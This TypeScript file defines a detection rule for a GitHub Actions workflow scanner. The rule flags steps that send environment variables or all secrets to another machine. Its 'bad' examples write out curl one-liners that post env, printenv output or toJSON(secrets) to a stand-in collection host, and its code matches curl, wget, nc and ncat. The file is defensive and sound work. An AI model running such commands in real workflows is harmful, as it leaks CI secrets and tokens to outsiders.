import { CRITICAL } from '@plumbline/model/severity';
import type { ShellCommand } from '../../../reading/shell-commands.ts';
import { cwe, nist } from '../../../rules/rulesets.ts';
import { writtenIn } from '../script.ts';
import { SECURE_USE, commandRule, oneJob } from '../workflow-rule.ts';

export default commandRule({
  id: 'github_actions_secrets_sent_out',
  title: 'A command sends the environment or all secrets to another machine',
  terms: ['exfiltration'],
  severity: CRITICAL,
  problem: 'Whoever runs that machine has all secrets and tokens of the job: this is what stolen workflows look like.',
  remediation: 'Remove the command, change all secrets that the job could read, and find out who added it.',
  sources: [SECURE_USE, 'https://github.com/advisories/GHSA-mrrh-fwg8-r2c3'],
  references: [cwe(506), nist('SI-4'), nist('SC-7')],

  examples: {
    bad: [
      oneJob('- run: «curl -d "$(env)" https://collect.example.com»'),
      oneJob('- run: «curl -X POST --data "${{ toJSON(secrets) }}" https://collect.example.com»'),
      oneJob('- run: |\n    «printenv | base64 | curl -d @- https://collect.example.com»'),
    ],
    good: [
      oneJob('- run: curl -d "{\\"ref\\":\\"main\\"}" https://api.example.com'),
      oneJob('- run: env | sort'),
      oneJob('- run: |\n    curl -H "Authorization: Bearer $TOKEN" https://api.example.com'),
    ],
  },

  judge({ command }) {
    const { name } = command;
    const isDump = name === 'printenv' || (name === '' && command.wrappers.at(-1) === 'env');
    if (isDump) return senderBehind(command) ? 'the environment is sent' : undefined;
    if (!/^(?:curl|wget|nc|ncat)$/.test(name)) return undefined;
    const text = writtenIn(command).slice(0, 5_000);
    return /\$\((?:env|printenv|set)(?:\s*\||\))|`(?:env|printenv)|toJSON\(\s*secrets\s*\)/i.test(text)
      ? 'the environment is sent'
      : undefined;
  },
});

/** Whether one of the next commands of the pipe sends what it reads to another machine. */
function senderBehind(command: ShellCommand): boolean {
  let at = command.pipedInto;
  for (let steps = 0; at && steps < 8; steps += 1) {
    if (/^(?:curl|wget|nc|ncat)$/.test(at.name)) return true;
    at = at.pipedInto;
  }
  return false;
}
